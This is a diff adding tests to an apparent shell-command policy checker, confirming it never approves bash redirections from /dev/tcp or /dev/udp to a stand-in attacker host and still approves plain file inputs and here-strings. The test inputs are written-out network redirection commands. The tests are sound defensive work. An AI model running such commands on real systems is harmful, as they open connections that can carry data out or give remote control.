@@ -447,6 +447,25 @@ describe("evaluatePolicy: an allow rule and redirections", () => {
   });
 
   it.each([
+    ["npm test < /dev/tcp/attacker.example/4444"],
+    ["npm test 0</dev/udp/attacker.example/53"],
+    ['echo x <"/dev/tcp/attacker.example/80"'],
+    ["< /dev/tcp/attacker.example/80"],
+  ])("never approves bash's network redirection, which opens a connection: %j", (command) => {
+    expect(allowed(command)).toEqual([]);
+  });
+
+  it.each([
+    ["npm test < input.txt", ["npm-test"]],
+    ["echo x <<< /dev/tcp/not-a-file", ["echo"]],
+  ] as const)(
+    "approves %j: an input from a file or a here-string opens no connection",
+    (command, expected) => {
+      expect(allowed(command)).toEqual(expected);
+    },
+  );
+
+  it.each([
     ["echo done", ["echo"]],
     ["npm test 2>&1", ["npm-test"]],
     ["npm test >/dev/null 2>&1", ["npm-test"]],
